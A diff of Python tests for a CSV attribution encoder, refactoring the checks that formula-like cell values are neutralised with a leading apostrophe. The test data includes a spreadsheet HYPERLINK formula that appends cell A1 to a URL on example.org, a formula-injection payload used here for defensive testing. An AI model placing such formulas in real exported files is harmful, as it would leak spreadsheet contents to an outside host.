@@ -3,8 +3,6 @@
 import csv
 import io
 import itertools
-from collections.abc import Iterable
-from typing import Any
 
 from pipeline.documents.attribution import encode_attribution
 from tests.pipeline.documents.rows_by_hand import row
@@ -29,33 +27,17 @@ def test_rows_are_sorted_and_complete() -> None:
 
 
 def test_formulas_are_made_inert() -> None:
-    cases: Iterable[Any] = itertools.product(
-        ["title", "licence", "attribution", "source_url"], ["=", "+", "-", "@", "\t", "\r"]
-    )
-    for case in cases:
-        _check_formulas_are_made_inert(*case)
-
-
-def _check_formulas_are_made_inert(field: str, start: str) -> None:
-    formula = f'{start}HYPERLINK("https://example.org/?"&A1)'
-    (read,) = cells(encode_attribution([row(**{field: formula})]))
-    assert read[field] == "'" + formula
-
-
-def test_a_uid_may_be_a_formula_too() -> None:
-    (read,) = cells(encode_attribution([row("=1+1")]))
-    assert read["uid"] == "'=1+1"
+    fields = ["uid", "title", "licence", "attribution", "source_url"]
+    for field, start in itertools.product(fields, ["=", "+", "-", "@", "\t", "\r"]):
+        formula = f'{start}HYPERLINK("https://example.org/?"&A1)'
+        (read,) = cells(encode_attribution([row(**{field: formula})]))
+        assert read[field] == "'" + formula
 
 
 def test_other_text_comes_back_as_it_was() -> None:
-    cases: Iterable[Any] = ['a "quoted" name', "a;b,c", "line\nbreak", "élan 高", "a=1", ""]
-    for text in cases:
-        _check_other_text_comes_back_as_it_was(text)
-
-
-def _check_other_text_comes_back_as_it_was(text: str) -> None:
-    (read,) = cells(encode_attribution([row(title=text)]))
-    assert read["title"] == text
+    for text in ['a "quoted" name', "a;b,c", "line\nbreak", "élan 高", "a=1", ""]:
+        (read,) = cells(encode_attribution([row(title=text)]))
+        assert read["title"] == text
 
 
 def test_no_objects_give_the_heading_alone() -> None:
